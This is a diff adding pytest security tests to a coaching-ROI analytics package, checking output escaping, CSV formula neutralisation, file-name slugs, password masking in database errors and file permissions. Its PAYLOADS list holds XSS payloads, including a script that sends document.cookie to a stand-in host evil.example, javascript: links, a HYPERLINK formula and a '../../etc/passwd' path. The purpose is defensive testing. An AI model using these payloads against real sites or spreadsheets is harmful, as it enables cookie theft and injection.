@@ -12,6 +12,7 @@ from __future__ import annotations
 import json
 import os
 import signal
+import stat
 import subprocess
 import sys
 import textwrap
@@ -389,3 +390,195 @@ def test_swap_is_atomic_exchange_where_the_os_offers_it(tmp_path):
     if not runlock._exchange(a, b):
         pytest.skip("renameat2(RENAME_EXCHANGE) not available here: the two-rename fallback is used")
     assert (a / "f").read_text() == "B" and (b / "f").read_text() == "A"
+
+
+# ========================================================================= 4. markup in data
+from coaching_roi import exports, textsafe  # noqa: E402
+
+PAYLOADS = [
+    "[click me](javascript:alert(1))",
+    "![tracker](http://evil.example/pixel.png)",
+    '<img src="http://evil.example/x.png" onerror="alert(1)">',
+    "<script>fetch('http://evil.example/steal?c='+document.cookie)</script>",
+    '<a href="javascript:alert(1)">Jane</a>',
+    "[ref][1]\n\n[1]: http://evil.example/ref",
+    "<svg onload=alert(1)><use href='http://evil.example/s.svg#x'/></svg>",
+    "<style>@import url(http://evil.example/x.css);</style>",
+    "<iframe src=//evil.example></iframe>",
+    "$\\frac{1}{0}$ and $5 vs $6",
+    "Bell\x07 NUL\x00 ESC\x1b[31m red",
+    "=HYPERLINK(\"http://evil.example\",\"Jane\")",
+    "<https://evil.example/autolink>",
+]
+
+
+def html_tags(text: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
+    """Every real tag (name, attributes) in an HTML fragment: escaped text holds none."""
+    from html.parser import HTMLParser
+
+    found: list = []
+
+    class P(HTMLParser):
+        def handle_starttag(self, tag, attrs):
+            found.append((tag, attrs))
+
+    P().feed(text)
+    return found
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_say_shows_data_as_text_never_markdown(payload, monkeypatch):
+    from coaching_roi import nbsupport
+
+    shown = []
+    monkeypatch.setattr("IPython.display.display", lambda obj, raw=False: shown.append(obj))
+    nbsupport.say(f"Rep {payload} moved")
+    (out,) = shown
+    assert set(out) == {"text/html", "text/plain"}  # no text/markdown: nothing is rendered as Markdown
+    html_out = out["text/html"]
+    tags = html_tags(html_out)
+    assert {t for t, _ in tags} <= {"p", "code", "br"}, html_out
+    assert all(name == "style" for _, attrs in tags for name, _ in attrs), html_out
+    assert "\x00" not in html_out and "\x07" not in html_out
+    assert "javascript:alert(1)" in textsafe.plain(out["text/plain"]) or "javascript" not in payload
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_tables_escape_cells_and_headers(payload):
+    import pandas as pd
+
+    from coaching_roi import nbsupport
+
+    df = pd.DataFrame({payload: [payload], "n": [1]})
+    html_out = nbsupport._styled(df, caption=payload, precision=2, all_left=False).to_html()
+    assert "<script" not in html_out and "<img" not in html_out and "<a " not in html_out
+    assert "<iframe" not in html_out and "<svg" not in html_out and "<style>@import" not in html_out
+
+
+def test_pptx_and_plot_labels_take_any_text(tmp_path):
+    import matplotlib
+
+    matplotlib.use("Agg")
+    import matplotlib.pyplot as plt
+    from pptx import Presentation
+
+    from coaching_roi import deck
+    from coaching_roi.plots import set_style
+
+    text = " | ".join(PAYLOADS)
+    slide = deck.Slide(key="x", title=text, lead=text, bullets=[text], table_columns=["a"], table_rows=[[text]],
+                       notes=text)
+    d = deck.Deck(title=text, company="Co", quarter="2026Q3", headline=text, slides=[slide])
+    deck.render_pptx(d, tmp_path / "d.pptx")
+    got = Presentation(str(tmp_path / "d.pptx")).slides[0].shapes.title.text
+    assert "javascript:alert(1)" in got and "\x00" not in got  # shown as text, control characters gone
+    set_style()
+    fig, ax = plt.subplots()
+    ax.set_title(textsafe.plot_text(text))
+    ax.set_yticks([0, 1], labels=["$1.2M … $3K", textsafe.plot_text(PAYLOADS[9])])
+    fig.canvas.draw()  # mathtext would fail on unbalanced or odd '$' text
+    plt.close(fig)
+    assert "$" in ax.get_title(loc="left")
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1", "\uff20SUM(A1)"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(cell):
+    import pandas as pd
+
+    out = exports.neutralise_formulas(pd.DataFrame({"rep": [cell], "amount": [-5.0]}))
+    assert out.loc[0, "rep"] == "'" + cell
+    assert out.loc[0, "amount"] == -5.0
+
+
+@pytest.mark.parametrize("raw", ["../../etc/passwd", "Jane <script>", "con", "", "名前", "a" * 300])
+def test_file_names_from_values_are_slugs(raw):
+    name = textsafe.filename(raw)
+    assert __import__("re").fullmatch(r"[A-Za-z0-9_-]{1,80}", name), name
+    assert textsafe.filename(raw) == name and textsafe.filename(raw + "x") != name
+
+
+# =========================================================================== 5. secrets
+from coaching_roi import intake, redact  # noqa: E402
+from coaching_roi.config import Source  # noqa: E402
+
+SECRET_URLS = {
+    "unescaped_at": ("postgresql+psycopg://analyst:Xq7-P@ss-W0rdZ@127.0.0.1:1/crm", "Xq7-P@ss-W0rdZ"),
+    "colon_and_slash": ("postgresql+psycopg://analyst:Xq7:P4ss/W0rdZ@127.0.0.1:1/crm", "Xq7:P4ss/W0rdZ"),
+    "percent_encoded": ("postgresql+psycopg://analyst:Xq7%40P4ssW0rdZ@127.0.0.1:1/crm", "Xq7%40P4ssW0rdZ"),
+    "missing_driver": ("postgresql+nodriver://analyst:Xq7P4ssW0rdZ@127.0.0.1:1/crm", "Xq7P4ssW0rdZ"),
+    "uninstalled_driver": ("mysql+pymysql://analyst:Xq7P4ssW0rdZ@127.0.0.1:1/crm", "Xq7P4ssW0rdZ"),
+    "bad_port": ("postgresql+psycopg://analyst:Xq7P4ssW0rdZ@127.0.0.1:notaport/crm", "Xq7P4ssW0rdZ"),
+    "no_scheme": ("analyst:Xq7P4ssW0rdZ@127.0.0.1/crm", "Xq7P4ssW0rdZ"),
+    "password_in_query": ("postgresql+psycopg://127.0.0.1:1/crm?user=analyst&password=Xq7P4ssW0rdZ", "Xq7P4ssW0rdZ"),
+    "space_hash_question": ("postgresql+psycopg://analyst:Xq7 P4ss#W0rd?Z@127.0.0.1:1/crm", "Xq7 P4ss#W0rd?Z"),
+    "unknown_host": ("postgresql+psycopg://analyst:Xq7P4ssW0rdZ@no-such-host.invalid/crm", "Xq7P4ssW0rdZ"),
+}
+
+
+def leaked_pieces(text: str, password: str) -> list[str]:
+    """Pieces (3+ characters) of ``password`` — raw or percent-decoded — found in ``text``."""
+    import re
+    from urllib.parse import unquote
+
+    pieces = {p for form in (password, unquote(password)) for p in re.split(r"[@:/?#%\s]+", form) if len(p) >= 3}
+    pieces |= {password, unquote(password)}
+    return sorted(p for p in pieces if p in text)
+
+
+@pytest.mark.parametrize("case", list(SECRET_URLS))
+def test_sql_errors_never_show_the_password(case, monkeypatch):
+    url, password = SECRET_URLS[case]
+    monkeypatch.setenv("CRM_URL", url)
+    with pytest.raises(WorkbookError) as err:
+        intake._read_sql(Source(format="sql", query="select 1", url_env="CRM_URL"), "opportunities")
+    msg = str(err.value)
+    assert leaked_pieces(msg, password) == [], msg
+    assert "$CRM_URL" in msg and redact.MASK in msg  # says which variable, shows the URL masked
+
+
+@pytest.mark.parametrize("case", list(SECRET_URLS))
+def test_masked_url_keeps_what_helps_and_hides_the_password(case):
+    url, password = SECRET_URLS[case]
+    shown = redact.mask_url(url)
+    assert leaked_pieces(shown, password) == []
+    assert "127.0.0.1" in shown or "no-such-host" in shown
+
+
+# ======================================================================= 6. permissions
+@pytest.mark.parametrize("umask", [0o022, 0o027])
+def test_atomic_writes_respect_the_umask(tmp_path, umask):
+    import pandas as pd
+
+    from coaching_roi import findings
+
+    old = os.umask(umask)
+    try:
+        findings.write_part(tmp_path / "run", "01_x", quarter="2026Q3", status="ok")
+        exports.safe_csv(pd.DataFrame({"a": [1]}), tmp_path / "run" / "plan.csv")
+        safety.atomic_write_text(tmp_path / "run" / "x.txt", "x")
+    finally:
+        os.umask(old)
+    for p in [tmp_path / "run", *(tmp_path / "run").rglob("*")]:
+        want = (0o777 if p.is_dir() else 0o666) & ~umask
+        assert stat.S_IMODE(p.stat().st_mode) == want, (p, oct(p.stat().st_mode))
+
+
+def test_whole_run_respects_the_umask(project):
+    _, nbdir, params, root = project
+    make_nb(nbdir / "02_second.ipynb", """
+import pandas as pd
+from coaching_roi import exports
+exports.safe_csv(pd.DataFrame({"a": ["=1"]}), cfg.run_dir / "coaching_plan.csv")
+pd.DataFrame({"a": [1]}).to_parquet(cfg.artifact("02_x"))
+findings.write_part(cfg.run_dir, "02_second", quarter=cfg.quarter, status="ok")
+""")
+    res = subprocess.run([sys.executable, "-c", RUNNER, str(params), str(root), str(nbdir), "0"],
+                         capture_output=True, text=True, preexec_fn=lambda: os.umask(0o022))
+    assert res.returncode == 0, res.stderr
+    checked = 0
+    for p in [root, *root.rglob("*")]:
+        want = 0o755 if p.is_dir() else 0o644
+        assert stat.S_IMODE(p.stat().st_mode) == want, (p, oct(p.stat().st_mode))
+        checked += 1
+    assert (root / "t" / "findings.json").exists() and (root / "t" / "coaching_plan.csv").exists()
+    assert checked > 15
